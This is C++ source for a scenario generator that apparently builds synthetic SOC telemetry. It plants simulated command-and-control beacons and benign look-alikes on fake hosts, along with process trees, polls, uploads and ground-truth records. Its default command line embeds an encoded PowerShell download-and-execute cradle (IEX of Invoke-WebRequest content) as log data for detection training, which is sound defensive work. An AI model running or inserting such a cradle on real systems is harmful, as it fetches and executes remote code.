// ScenarioGenerator, planted channels and their look-alikes: for each entry of the ChannelCatalog the
// scenario asks for, the hosts it runs on, its process tree, and every poll (and output upload) it
// makes while its host is on or its user at the desk, with what the truth file says of it.
#include "channel_catalog.h"
#include "generator_support.h"
#include "scenario_generator.h"

#include <algorithm>
#include <cmath>

namespace socwb::scenario {

namespace {

std::string base64(const std::string& in) {
    static const char* t = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string out;
    size_t i = 0;
    for (; i + 2 < in.size(); i += 3) {
        const uint32_t v = (uint8_t(in[i]) << 16) | (uint8_t(in[i + 1]) << 8) | uint8_t(in[i + 2]);
        out += t[v >> 18];
        out += t[(v >> 12) & 63];
        out += t[(v >> 6) & 63];
        out += t[v & 63];
    }
    if (i + 1 == in.size()) {
        const uint32_t v = uint8_t(in[i]) << 16;
        out += t[v >> 18];
        out += t[(v >> 12) & 63];
        out += "==";
    } else if (i + 2 == in.size()) {
        const uint32_t v = (uint8_t(in[i]) << 16) | (uint8_t(in[i + 1]) << 8);
        out += t[v >> 18];
        out += t[(v >> 12) & 63];
        out += t[(v >> 6) & 63];
        out += '=';
    }
    return out;
}

// PowerShell -EncodedCommand takes UTF-16LE; the scripts here are ASCII.
std::string powershellEncoded(const std::string& script) {
    std::string utf16;
    for (char c : script) {
        utf16.push_back(c);
        utf16.push_back('\0');
    }
    return base64(utf16);
}

} // namespace

std::vector<int> ScenarioGenerator::pickHosts(const ChannelSpec& spec, int specIndex, std::vector<int>& used) {
    RandomSource r = RandomSource::derived(options_.seed, 50, uint64_t(specIndex));
    std::vector<int> pool;
    auto collect = [&](auto pred, bool excludeUsed) {
        pool.clear();
        for (int i = 0; i < static_cast<int>(world_.hosts.size()); ++i) {
            if (pred(world_.hosts[size_t(i)]) &&
                (!excludeUsed || std::find(used.begin(), used.end(), i) == used.end())) {
                pool.push_back(i);
            }
        }
        return !pool.empty();
    };
    // Workstations: a host of its own with a user (world 2's Citrix sessions and guest devices are not).
    auto ws = [](const SimHost& h) { return !h.server && h.sharing.empty(); };
    auto office = [](const SimHost& h) { return !h.server && h.sharing.empty() && !h.developer; };
    auto dev = [](const SimHost& h) { return h.developer; };
    auto winServer = [](const SimHost& h) { return h.server && !h.linuxOs && h.role != "domain-controller"; };
    auto anyWinServer = [](const SimHost& h) { return h.server && !h.linuxOs; };
    auto linuxServer = [](const SimHost& h) { return h.server && h.linuxOs; };
    // The build server keeps its proxy: the CI look-alike needs it in the proxy log.
    auto quietLinuxServer = [](const SimHost& h) { return h.server && h.linuxOs && h.role != "build-server"; };
    auto build = [](const SimHost& h) { return h.role == "build-server"; };
    auto session = [](const SimHost& h) { return h.sharing == "vda-session"; };
    auto user = [](const SimHost& h) { return (!h.server && h.sharing.empty()) || h.sharing == "vda-session"; };
    auto guest = [](const SimHost& h) { return h.sharing == "nat-device"; };
    auto directLinux = [](const SimHost& h) {
        return h.server && h.linuxOs && h.directEgress && h.role != "Secure Web Gateway";
    };
    auto roleIs = [](const char* role) { return [role](const SimHost& h) { return h.server && h.role == role; }; };
    auto someOf = [&](double share) {
        std::vector<int> some;
        for (int i : pool) {
            if (r.chance(share)) {
                some.push_back(i);
            }
        }
        if (some.empty() && !pool.empty()) {
            some.push_back(pool[size_t(r.uniformInt(0, int64_t(pool.size()) - 1))]);
        }
        return some;
    };
    auto one = [&]() -> std::vector<int> {
        return pool.empty() ? std::vector<int>{}
                            : std::vector<int>{pool[size_t(r.uniformInt(0, int64_t(pool.size()) - 1))]};
    };
    switch (spec.pick) {
    case HostPick::Workstation:
        if (collect(office, true) || collect(ws, true) || collect(ws, false)) {
            return one();
        }
        return {};
    case HostPick::Developer:
        if (collect(dev, true) || collect(ws, true) || collect(ws, false)) {
            return one();
        }
        return {};
    case HostPick::WindowsServer:
        if (collect(winServer, true) || collect(anyWinServer, true) || collect(office, true) || collect(ws, false)) {
            return one();
        }
        return {};
    case HostPick::LinuxServer:
        if (collect(quietLinuxServer, true) || collect(linuxServer, true) || collect(office, true) ||
            collect(ws, false)) {
            return one();
        }
        return {};
    case HostPick::BuildServer:
        collect(build, false);
        return pool.empty() ? pool : std::vector<int>{pool.front()};
    case HostPick::AllDevelopers:
        collect(dev, false);
        return pool;
    case HostPick::AllWorkstations:
        collect(ws, false);
        return pool;
    case HostPick::AllServers:
        collect(anyWinServer, false);
        return pool;
    case HostPick::AllLinuxServers:
        collect(linuxServer, false);
        return pool;
    case HostPick::SomeWorkstations:
        collect(ws, false);
        return someOf(spec.share);
    case HostPick::VdaSession:
        if (collect(session, true) || collect(office, true) || collect(ws, false)) {
            return one();
        }
        return {};
    case HostPick::SqlServer:
        if (collect(roleIs("MSSQL"), true) || collect(anyWinServer, true) || collect(office, true)) {
            return one();
        }
        return {};
    case HostPick::JumpHost:
        if (collect(roleIs("Jump host (RDP)"), true) ||
            collect([](const SimHost& h) { return h.server && h.explicitProxy; }, true) ||
            collect(anyWinServer, true) || collect(office, true)) {
            return one();
        }
        return {};
    case HostPick::DirectLinux:
        if (collect(directLinux, true) || collect(office, true) || collect(ws, false)) {
            return one();
        }
        return {};
    case HostPick::AllDirectLinux:
        collect(directLinux, false);
        return pool;
    case HostPick::DomainController:
        collect(roleIs("Domain Controller"), false);
        return pool.empty() ? pool : std::vector<int>{pool.front()};
    case HostPick::AllUsers:
        collect(user, false);
        return pool;
    case HostPick::SomeUsers:
        collect(user, false);
        return someOf(spec.share);
    case HostPick::GuestDevices:
        collect(guest, false);
        return someOf(spec.share);
    }
    return {};
}

void ScenarioGenerator::plantChannels() {
    std::string unknown;
    const std::vector<std::string> wanted = ChannelCatalog::positivesFor(options_.scenario, &unknown, options_.world);
    std::vector<int> used;
    const auto& all = ChannelCatalog::forWorld(options_.world);
    for (size_t i = 0; i < all.size(); ++i) {
        const ChannelSpec& spec = all[i];
        if (spec.positive && std::find(wanted.begin(), wanted.end(), spec.id) == wanted.end()) {
            continue;
        }
        if (!spec.positive && *spec.scenario && !ChannelCatalog::scenarioNamed(options_.scenario, spec.scenario)) {
            continue; // a look-alike of a scenario not asked for
        }
        std::vector<int> hosts = pickHosts(spec, static_cast<int>(i), used);
        for (const ChannelTruth& t : truth_) {
            if (*spec.alongside && t.id == spec.alongside) {
                for (int h : t.hosts) {
                    if (std::find(hosts.begin(), hosts.end(), h) == hosts.end()) {
                        hosts.push_back(h);
                    }
                }
                std::sort(hosts.begin(), hosts.end());
            }
        }
        if (hosts.empty()) {
            continue;
        }
        if (spec.positive) {
            // A planted implant survives the night: its host stays on, and it carries the
            // visibility the scenario asks for.
            for (int h : hosts) {
                used.push_back(h);
                SimHost& host = world_.hosts[size_t(h)];
                if (!host.sharing.empty()) {
                    continue; // a user session lasts as long as the user does
                }
                host.alwaysOn = true;
                host.powered = {{world_.startUs - kDay, world_.endUs + kDay}};
                host.sysmon = host.sysmon && !spec.noSysmon;
                host.directEgress = host.directEgress || spec.directEgress;
            }
        }
        plantChannel(spec, static_cast<int>(i), hosts);
    }
}

void ScenarioGenerator::plantChannel(const ChannelSpec& spec, int specIndex, const std::vector<int>& hosts) {
    ChannelTruth truth;
    truth.id = spec.id;
    truth.spec = &spec;
    truth.hosts = hosts;
    const int truthIndex = static_cast<int>(truth_.size());
    truth_.push_back(truth);
    const int64_t windowHours = int64_t(options_.days) * 24;
    double startHour = spec.startHour;
    if (startHour > double(windowHours) * 0.7) {
        // A shorter case than the channel was written for: start early enough to be seen.
        startHour = std::fmod(startHour, 24.0);
        if (startHour > double(windowHours) * 0.7) {
            startHour = double(windowHours) * 0.25;
        }
    }
    static const char* repos[] = {"payments-api", "web-frontend",  "infra-terraform",
                                  "mobile-app",   "data-pipeline", "auth-service"};

    for (int host : hosts) {
        const SimHost& h = world_.hosts[size_t(host)];
        RandomSource r = RandomSource::derived(options_.seed, 100 + uint64_t(specIndex), uint64_t(host));
        const std::string destHost = spec.destHost;
        std::string token;
        if (destHost == "api.telegram.org") {
            token = "6" + randomToken(r, 9, "0123456789") + ":AA" + randomToken(r, 33, kAlnum);
        } else if (destHost == "docs.google.com") {
            token = "1" + randomToken(r, 43, kAlnum);
        } else if (destHost == "api.github.com") {
            token = randomToken(r, 32, kHex);
        } else if (destHost == "api.onedrive.com") {
            token = randomToken(r, 40, kAlnum);
        } else if (destHost == "pastebin.com" || destHost == "paste.ee") {
            token = randomToken(r, 8, kAlnum);
        } else {
            token = randomToken(r, 10, kLowerAlnum);
        }
        const std::string token2 = std::to_string(r.uniformInt(1000000000000000000LL, 1299999999999999999LL));
        const std::string repo = repos[r.uniformInt(0, int64_t(std::size(repos)) - 1)];
        const std::string hex = randomToken(r, 16, kHex);
        const std::string num = std::to_string(r.uniformInt(100000000, 999999999));
        auto ex = [&](const char* t) { return expand(t, host, token, token2, repo, hex, num); };

        const int dest = destination(destHost);
        const std::string target = ex(spec.target);
        // World 1 names every address literal tcp://; world 2 only those the proxy cannot read.
        const bool tcpUrl = isIpLiteral(destHost) && (options_.world == 1 || !world_.dests[size_t(dest)].inspected);
        const std::string url = std::string(tcpUrl ? "tcp://" : "https://") + destHost + target;
        std::string commandLine = ex(spec.commandLine);
        if (*spec.script) {
            std::string script = ex(spec.script);
            replaceAll(script, "{url}", url);
            replaceAll(commandLine, "{encoded}", powershellEncoded(script));
        } else {
            replaceAll(commandLine, "{encoded}",
                       powershellEncoded("IEX (Invoke-WebRequest -UseBasicParsing -Uri '" + url + "').Content"));
        }
        const int followDest = *spec.followHost ? destination(spec.followHost) : -1;
        const std::string followTarget = ex(spec.followTarget);
        const std::string image = ex(spec.image);
        const std::string ua = std::string(spec.userAgent) == "{browser}" ? h.browserUa : ex(spec.userAgent);
        const std::string* uaPtr = internString(ua);
        const int outputDest = *spec.outputHost ? destination(spec.outputHost) : -1;
        const std::string outputTarget = ex(spec.outputTarget);
        const Method method = std::string(spec.method) == "POST" ? Method::Post : Method::Get;
        const bool system = spec.runAsSystem;

        const int64_t start =
            std::max(world_.startUs, world_.startUs + static_cast<int64_t>(startHour * double(kHour)) +
                                         (spec.positive ? r.uniformInt(0, 20 * kMinute) : 0));
        const int64_t stop =
            spec.stopHour > 0 ? world_.startUs + static_cast<int64_t>(spec.stopHour * double(kHour)) : world_.endUs;
        ChannelTruth& t = truth_[size_t(truthIndex)];
        if (t.url.empty()) {
            t.dest = dest;
            t.outputDest = outputDest;
            t.url = url;
            t.outputUrl = outputDest >= 0 ? "https://" + std::string(spec.outputHost) + outputTarget : std::string();
            t.image = image;
            t.commandLine = commandLine;
            t.parentImage = ex(spec.parentImage);
            t.launcherImage = spec.launcherImage;
            t.activeFromUs = start;
            t.activeToUs = stop;
            t.followDest = followDest;
            t.followUrl = followDest >= 0 ? "https://" + std::string(spec.followHost) + followTarget : std::string();
        }
        // A service account of its own (SQL Server Agent's), not the user or SYSTEM.
        auto runAs = [&](int process) {
            if (*spec.account && process >= 0) {
                world_.processes[size_t(process)].user = spec.account;
                world_.processes[size_t(process)].integrity = "High";
                world_.processes[size_t(process)].currentDirectory = "C:\\Windows\\system32\\";
            }
        };

        // The process tree. Positives start inside the window so their creation is in the logs.
        int parent = -1;
        if (spec.positive || spec.parentFresh) {
            if (spec.parentFresh) {
                const int explorer =
                    longLivedProcess(host, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", start, false);
                parent = newProcess(host, ex(spec.parentImage), ex(spec.parentCommandLine), explorer,
                                    start - 47 * kSecond, 0, false, truthIndex);
            } else if (!h.linuxOs) {
                parent = longLivedProcess(host, ex(spec.parentImage), ex(spec.parentCommandLine), start,
                                          systemImage(lower(basenameOf(spec.parentImage))));
            } else {
                parent = newProcess(host, ex(spec.parentImage), ex(spec.parentCommandLine), -1, start - 2 * kSecond, 0,
                                    true, truthIndex);
            }
        }
        if (*spec.setupImage) {
            const int explorer =
                longLivedProcess(host, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", start, false);
            const int64_t at = start - 3 * kMinute - r.uniformInt(0, 60 * kSecond);
            newProcess(host, spec.setupImage, ex(spec.setupCommandLine), explorer, at, at + 380 * 1000, false,
                       truthIndex);
        }
        int launcher = -1;
        if (*spec.launcherImage) {
            launcher = newProcess(host, spec.launcherImage, ex(spec.launcherCommandLine), parent, start - 2 * kSecond,
                                  0, false, truthIndex);
        }
        int mainProcess = -1;
        if (spec.positive && !spec.processPerPoll) {
            mainProcess = newProcess(host, image, commandLine, launcher >= 0 ? launcher : parent, start - kSecond, 0,
                                     system, truthIndex);
            runAs(mainProcess);
            t.processes.push_back(mainProcess);
        }

        const double meanDurationMs = 70.0 + spec.bytesIn / 150.0;
        int64_t at =
            start + static_cast<int64_t>(r.uniform(0.05, 1.0) * std::min(spec.intervalS, 90.0) * double(kSecond));
        int64_t lastDay = -1;
        while (at < stop) {
            int64_t next = 0, end = 0;
            const bool active =
                spec.schedule == Schedule::WorkingHours ? deskAt(h, at, &next, &end) : poweredAt(h, at, &next, &end);
            if (!active) {
                if (next == INT64_MAX) {
                    break;
                }
                // Apps come back a little after the user or the machine does.
                at = next +
                     static_cast<int64_t>(r.uniform(20, 40 + std::min(spec.intervalS, 600.0) * 0.5) * double(kSecond));
                continue;
            }
            SimRequest q;
            q.startUs = at;
            q.durationMs = static_cast<int32_t>(std::max(12.0, r.normal(meanDurationMs, meanDurationMs * 0.25)));
            if (spec.holdS > 0) {
                // A long poll or a websocket: the server holds the request open.
                q.durationMs += static_cast<int32_t>(r.uniform(spec.holdS * 0.9, spec.holdS) * 1000.0);
            }
            q.host = host;
            q.dest = dest;
            q.channel = truthIndex;
            q.method = method;
            q.status = static_cast<int16_t>(spec.status);
            q.bytesOut = spec.bytesOut + r.uniformInt(-3, 3);
            q.bytesIn = spec.bytesIn + r.uniformInt(-spec.bytesInSpread, spec.bytesInSpread);
            if (spec.positive && r.chance(1.0 / 40)) {
                q.bytesIn += r.uniformInt(300, 2400); // a command was waiting
            }
            q.target = target;
            q.userAgent = uaPtr;
            q.contentType = spec.contentType;
            q.keepAliveS = static_cast<int16_t>(spec.keepAliveS);
            q.uidSeed = r.next();
            if (spec.processPerPoll) {
                const int p = launcher >= 0 ? launcher
                              : parent >= 0 ? parent
                                            : longLivedProcess(host, ex(spec.parentImage), ex(spec.parentCommandLine),
                                                               at, systemImage(lower(basenameOf(spec.parentImage))));
                q.process = newProcess(host, image, commandLine, p, at - 180 * 1000 - r.uniformInt(0, 90 * 1000),
                                       q.endUs() + 120 * 1000 + r.uniformInt(0, 80 * 1000), system, truthIndex);
                if (t.processes.size() < 3) {
                    t.processes.push_back(q.process);
                }
            } else if (mainProcess >= 0) {
                q.process = mainProcess;
            } else if (std::string(spec.image) == "{browser}") {
                q.process = browserProcess(host, at);
            } else {
                q.process = longLivedProcess(host, image, commandLine, at, system);
            }
            if (*spec.fileCreated && h.sysmon) {
                SimSysmonEvent e;
                e.tsUs = q.endUs() + 4000 + r.uniformInt(0, 3000);
                e.host = host;
                e.eventId = 11;
                e.process = q.process;
                e.targetFilename = ex(spec.fileCreated);
                world_.sysmon.push_back(std::move(e));
            }
            ++t.polls;
            t.firstPollUs = t.firstPollUs == 0 ? at : std::min(t.firstPollUs, at);
            t.lastPollUs = std::max(t.lastPollUs, at);
            t.hourMask |= 1u << (((at - world_.startUs) % kDay) / kHour);
            const int64_t day = (at - world_.startUs) / kDay;
            if (day != lastDay && std::find(t.activeDays.begin(), t.activeDays.end(), int(day)) == t.activeDays.end()) {
                t.activeDays.push_back(static_cast<int>(day));
                lastDay = day;
            }
            const int process = q.process;
            if (followDest >= 0) {
                // The redirect's target, fetched in the same second.
                SimRequest f;
                f.startUs = q.endUs() + r.uniformInt(20, 140) * 1000;
                f.durationMs = static_cast<int32_t>(r.uniform(90, 260));
                f.host = host;
                f.dest = followDest;
                f.channel = truthIndex;
                f.process = process;
                f.status = 200;
                f.bytesOut = spec.bytesOut - 40 + r.uniformInt(-3, 3);
                f.bytesIn = spec.followBytesIn + r.uniformInt(-spec.bytesInSpread, spec.bytesInSpread);
                f.target = followTarget;
                f.userAgent = uaPtr;
                f.contentType = "text/plain; charset=utf-8";
                f.uidSeed = r.next();
                world_.requests.push_back(std::move(f));
            }
            world_.requests.push_back(std::move(q));

            if (outputDest >= 0 && spec.outputEvery > 0 && r.chance(1.0 / spec.outputEvery)) {
                SimRequest o;
                o.startUs = at + r.uniformInt(3 * kSecond, 25 * kSecond);
                o.durationMs = static_cast<int32_t>(r.uniform(120, 400));
                o.host = host;
                o.dest = outputDest;
                o.channel = truthIndex;
                o.method = Method::Post;
                o.status = 204;
                o.bytesOut = r.uniformInt(900, 6000);
                o.bytesIn = 390 + r.uniformInt(-5, 5);
                o.target = outputTarget;
                o.userAgent = uaPtr;
                o.contentType = "-";
                o.uidSeed = r.next();
                o.process = process;
                world_.requests.push_back(std::move(o));
            }
            const double gap = std::max(1.0, r.jittered(spec.intervalS, spec.jitter));
            at += static_cast<int64_t>(gap * double(kSecond));
        }
    }
}

} // namespace socwb::scenario
